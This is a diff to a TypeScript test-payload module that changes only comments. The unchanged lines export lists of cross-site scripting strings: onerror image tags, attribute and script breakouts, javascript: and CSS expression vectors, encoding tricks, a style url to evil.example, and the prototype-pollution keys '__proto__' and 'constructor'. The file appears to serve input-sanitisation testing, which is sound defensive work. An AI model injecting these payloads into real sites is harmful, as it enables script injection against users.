@@ -1,4 +1,4 @@
-// What somebody writes who wants it to run in another's browser: in each, a script that opens a dialog.
+// Injection payloads. Each opens a dialog if it runs.
 
 const script = "alert(1)";
 const image = `<img src=x onerror=${script}>`;
@@ -26,7 +26,7 @@ export const payloads: readonly string[] = [
   `<style>*{background:url(https://evil.example/)}</style>`,
   `<template><img src=x onerror=${script}></template>`,
   `<noscript><p title="</noscript>${image}">`,
-  // Out of an attribute, an element, a script.
+  // Escapes from an attribute, an element or a script.
   `" onmouseover="${script}`,
   `' autofocus onfocus='${script}`,
   `"><script>${script}</script>`,
@@ -64,18 +64,18 @@ export const payloads: readonly string[] = [
   // Styles.
   `x" style="background:url(javascript:${script})`,
   `expression(${script})`,
-  // Other ways to write it.
+  // Other encodings.
   `＜script＞${script}＜/script＞`,
   `<ſcript>${script}</ſcript>`,
   `%3Cscript%3E${script}%3C/script%3E`,
   `&lt;script&gt;${script}&lt;/script&gt;`,
   `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
-  // Names of JavaScript's own.
+  // JavaScript's own properties.
   "__proto__",
   "constructor",
 ];
 
-/** Those that only a text may have: names and topics are on one line, and all of it is to be seen. */
+/** Payloads for texts only: names and topics have one line and no invisible characters. */
 export const textPayloads: readonly string[] = [
   `java\tscript:${script}`,
   `java\nscript:${script}`,
